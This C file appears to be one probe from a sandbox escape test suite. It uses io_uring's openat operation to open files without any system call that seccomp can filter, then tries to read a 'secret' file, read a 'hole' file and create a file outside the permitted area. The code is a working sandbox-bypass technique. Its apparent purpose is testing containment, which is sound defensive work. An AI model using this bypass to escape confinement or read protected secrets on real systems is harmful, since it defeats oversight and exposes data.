/* Open a closed file through io_uring, where no system call carries the name.
 * Escape: the secret is read, or a file outside is made.
 * Trap: seccomp never sees what a ring does. */
#include "_attack.h"
#include <linux/io_uring.h>

static int ring_open(const char *path, int flags, char *why)
{
    struct io_uring_params p = {0};
    int fd = (int)syscall(SYS_io_uring_setup, 4, &p);
    if (fd < 0) {
        strcpy(why, strerror(errno));
        return -1;
    }
    char *sq = mmap(0, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQ_RING);
    char *cq = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE,
                    MAP_SHARED, fd, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqe = mmap(0, p.sq_entries * sizeof *sqe, PROT_READ | PROT_WRITE, MAP_SHARED, fd,
                                    IORING_OFF_SQES);
    memset(sqe, 0, sizeof *sqe);
    sqe->opcode = IORING_OP_OPENAT;
    sqe->fd = AT_FDCWD;
    sqe->addr = (unsigned long)path;
    sqe->open_flags = (unsigned)flags;
    sqe->len = 0600;
    ((unsigned *)(sq + p.sq_off.array))[0] = 0;
    __atomic_store_n((unsigned *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
        strcpy(why, strerror(errno));
        return -1;
    }
    int res = ((struct io_uring_cqe *)(cq + p.cq_off.cqes))[0].res;
    if (res < 0)
        strcpy(why, strerror(-res));
    return res;
}
static int t_read(char *why)
{
    int fd = ring_open(arena("secret"), O_RDONLY, why);
    char *t = fd >= 0 ? leak_fd(fd) : NULL;
    if (t)
        strcpy(why, t);
    return t != NULL;
}
static int t_hole(char *why)
{
    int fd = ring_open(arena("hole_file"), O_RDONLY, why);
    char *t = fd >= 0 ? leak_fd(fd) : NULL;
    if (t)
        strcpy(why, t);
    return t != NULL;
}
static int t_create(char *why)
{
    int fd = ring_open(join(arena("outside"), "/ring"), O_CREAT | O_WRONLY, why);
    if (fd >= 0)
        strcpy(why, "a file was made outside");
    return fd >= 0;
}
int main(void)
{
    attempt("read the secret", t_read, 1500);
    attempt("read the hole", t_hole, 1500);
    attempt("create outside", t_create, 1500);
    return finish();
}
